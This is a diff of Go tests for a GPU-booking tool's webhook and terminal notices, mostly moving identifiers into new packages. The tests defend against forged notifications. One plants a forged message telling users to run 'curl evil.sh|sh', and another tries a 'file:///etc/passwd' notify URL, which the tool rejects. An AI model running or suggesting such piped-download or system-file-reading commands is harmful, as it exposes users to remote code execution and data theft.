@@ -12,6 +12,10 @@ import (
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/chronos-gpu/chronos/core/admission"
+	"github.com/chronos-gpu/chronos/core/domain"
+	"github.com/chronos-gpu/chronos/core/notice"
+	"github.com/chronos-gpu/chronos/core/proc"
 	"github.com/chronos-gpu/chronos/storage"
 )
 
@@ -73,7 +77,7 @@ func TestWebhookNeverFollowsRedirects(t *testing.T) {
 	r.c.notify = notifyFileFor(t, redirect.URL+"/hook")
 	var log actLog
 	yes := true
-	m := r.monitor(ladderPolicy(ReclaimAlways), MonitorOptions{Root: &yes, OnAct: log.add})
+	m := r.monitor(ladderPolicy(admission.ReclaimAlways), MonitorOptions{Root: &yes, OnAct: log.add})
 	r.run(2*time.Minute, 10*time.Second, m)
 	tickUntil(t, r, m, func() bool { return strings.Contains(log.details(), "307") }, "the redirect is logged")
 	require.Contains(t, log.details(), "the webhook answered 307 Temporary Redirect to \""+target.URL+"/internal-admin/")
@@ -90,7 +94,7 @@ func TestLedgerNotifyURLIsNotPosted(t *testing.T) {
 	forged, real := newHook(t), newHook(t)
 	r := newIdleRig(t, alice)
 	id, _ := r.book(true)
-	pol := ladderPolicy(ReclaimAlways)
+	pol := ladderPolicy(admission.ReclaimAlways)
 	pol.NotifyURL = forged.URL
 	require.NoError(t, r.c.ledger.Update(r.c.ctx, func(tx *storage.Tx) error { return tx.PutPolicy(pol) }))
 
@@ -134,10 +138,10 @@ func TestNotifyFileMustBeRoots(t *testing.T) {
 		link:     "is a symbolic link",
 		two:      "line 3: one webhook address only",
 	} {
-		_, err := ReadNotifyFile(path)
+		_, err := notice.ReadNotifyFile(path)
 		require.ErrorContains(t, err, want, path)
 	}
-	got, err := ReadNotifyFile(filepath.Join(dir, "none"))
+	got, err := notice.ReadNotifyFile(filepath.Join(dir, "none"))
 	require.NoError(t, err)
 	require.Empty(t, got, "no file: no webhook")
 
@@ -146,7 +150,7 @@ func TestNotifyFileMustBeRoots(t *testing.T) {
 	r.c.notify = members
 	var log actLog
 	yes := true
-	m := r.monitor(ladderPolicy(ReclaimAlways), MonitorOptions{Root: &yes, OnAct: log.add})
+	m := r.monitor(ladderPolicy(admission.ReclaimAlways), MonitorOptions{Root: &yes, OnAct: log.add})
 	r.run(2*time.Minute+10*time.Second, 10*time.Second, m)
 	tickUntil(t, r, m, func() bool { return strings.Contains(log.details(), "not root") })
 	require.Contains(t, log.details(), "the webhook's address is not used: "+members+" belongs to uid 65534, not root")
@@ -163,11 +167,11 @@ func TestRootRetriesAFailedWebhook(t *testing.T) {
 	h := newHook(t, http.StatusBadGateway, http.StatusServiceUnavailable, http.StatusTooManyRequests)
 	// The booking is this process's user's, so that the member's monitor
 	// (Root: false) keeps its records (keepsRecordsOf) and warns of idle.
-	me := Identity{UID: hostUID(), User: "me"}
+	me := domain.Identity{UID: proc.HostUID(), User: "me"}
 	r := newIdleRig(t, me)
 	id, _ := r.book(true)
 	r.c.notify = notifyFileFor(t, h.URL)
-	pol := ladderPolicy(ReclaimAlways)
+	pol := ladderPolicy(admission.ReclaimAlways)
 	pol.NotifyURL = h.URL // as an older version kept it
 	no, yes := false, true
 	members := r.monitor(pol, MonitorOptions{Root: &no})
@@ -199,11 +203,11 @@ func TestWebhookRetriesAreBounded(t *testing.T) {
 	id, _ := r.book(false)
 	r.c.notify = notifyFileFor(t, h.URL)
 	require.NoError(t, r.c.ledger.Update(r.c.ctx, func(tx *storage.Tx) error {
-		return tx.AddEvent(storage.Event{Time: r.clock.Now(), Kind: storage.EventWarned, Partition: id, Detail: "ends in 5m"})
+		return tx.AddEvent(domain.Event{Time: r.clock.Now(), Kind: domain.EventWarned, Partition: id, Detail: "ends in 5m"})
 	}))
 	var log actLog
 	yes := true
-	m := r.monitor(ladderPolicy(ReclaimOff), MonitorOptions{Root: &yes, OnAct: log.add})
+	m := r.monitor(ladderPolicy(admission.ReclaimOff), MonitorOptions{Root: &yes, OnAct: log.add})
 	tickUntil(t, r, m, func() bool { return strings.Contains(log.details(), "500 Internal Server Error\n") }, "the last try")
 	r.run(10*time.Minute, 10*time.Second, m)
 	require.Len(t, h.received(), 6)
@@ -219,17 +223,17 @@ func TestTerminalNoticeIsRenderedFromTheRecord(t *testing.T) {
 		t.Skip("needs root to give terminals to other uids")
 	}
 	term := openPty(t, nobody.UID)
-	utmp := writeUtmp(t, Login{User: "nobody", Line: term.line})
+	utmp := writeUtmp(t, notice.Login{User: "nobody", Line: term.line})
 	h := newHook(t)
 	r := newIdleRig(t, nobody)
 	id, _ := r.book(false)
 	r.c.notify = notifyFileFor(t, h.URL)
 	forged := "FORGED: chronos needs you to run curl evil.sh|sh " + strings.Repeat("B", 3000)
 	require.NoError(t, r.c.ledger.Update(r.c.ctx, func(tx *storage.Tx) error {
-		return tx.AddEvent(storage.Event{Time: r.clock.Now(), Kind: storage.EventWarned, Partition: id, UID: nobody.UID, User: "nobody", Detail: forged})
+		return tx.AddEvent(domain.Event{Time: r.clock.Now(), Kind: domain.EventWarned, Partition: id, UID: nobody.UID, User: "nobody", Detail: forged})
 	}))
 	yes := true
-	m := r.monitor(ladderPolicy(ReclaimOff), MonitorOptions{Root: &yes, Notify: NotifyOptions{Utmp: utmp, Host: "gpu1"}})
+	m := r.monitor(ladderPolicy(admission.ReclaimOff), MonitorOptions{Root: &yes, Notify: NotifyOptions{Utmp: utmp, Host: "gpu1"}})
 	tickUntil(t, r, m, func() bool { return len(h.received()) == 1 })
 	got := term.read(t, 5*time.Second, "(GPU 3)")
 	require.Contains(t, got, "your booking #1 on GPU 3: ends in 2h (GPU 3)")
@@ -248,7 +252,7 @@ func TestSetPolicyWritesTheNotifyFile(t *testing.T) {
 	t.Parallel()
 	c := newTestClient(t, nil, root)
 	c.notify = filepath.Join(t.TempDir(), "etc", "chronos", "notify")
-	old := DefaultPolicy()
+	old := admission.DefaultPolicy()
 	old.NotifyURL = "http://127.0.0.1:18080/redir"
 	require.NoError(t, c.ledger.Update(c.ctx, func(tx *storage.Tx) error { return tx.PutPolicy(old) }))
 
@@ -257,13 +261,13 @@ func TestSetPolicyWritesTheNotifyFile(t *testing.T) {
 	require.NoError(t, err)
 	require.Equal(t, address, p.NotifyURL)
 	require.Equal(t, 10*time.Second, p.Grace)
-	got, err := ReadNotifyFile(c.notify)
+	got, err := notice.ReadNotifyFile(c.notify)
 	require.NoError(t, err)
 	require.Equal(t, address, got)
 	fi, err := os.Stat(c.notify)
 	require.NoError(t, err)
 	require.Equal(t, os.FileMode(0o600), fi.Mode().Perm(), "a webhook address is often a secret")
-	var stored Policy
+	var stored domain.Policy
 	require.NoError(t, c.ledger.View(c.ctx, func(tx *storage.Tx) error { stored, _, err = tx.Policy(); return err }))
 	require.Empty(t, stored.NotifyURL, "the ledger keeps no webhook")
 	evs, err := c.LastEvents(1)
@@ -277,8 +281,8 @@ func TestSetPolicyWritesTheNotifyFile(t *testing.T) {
 	for _, bad := range [][]string{{"notify-url=file:///etc/passwd"}, {"notify-url=" + address + "/2", "grace=never"},
 		{"notify-url=" + address + "/3", "for=alice"}} {
 		_, err := c.SetPolicy(bad)
-		require.ErrorIs(t, err, ErrInput, "%v", bad)
-		got, err := ReadNotifyFile(c.notify)
+		require.ErrorIs(t, err, domain.ErrInput, "%v", bad)
+		got, err := notice.ReadNotifyFile(c.notify)
 		require.NoError(t, err)
 		require.Equal(t, address, got, "%v changes nothing", bad)
 	}
@@ -290,5 +294,5 @@ func TestSetPolicyWritesTheNotifyFile(t *testing.T) {
 	require.Equal(t, 10*time.Second, p.Grace, "the rest stays")
 
 	_, err = newTestClient(t, nil, alice).SetPolicy([]string{"notify-url=" + address})
-	require.ErrorIs(t, err, ErrNotRoot)
+	require.ErrorIs(t, err, domain.ErrNotRoot)
 }
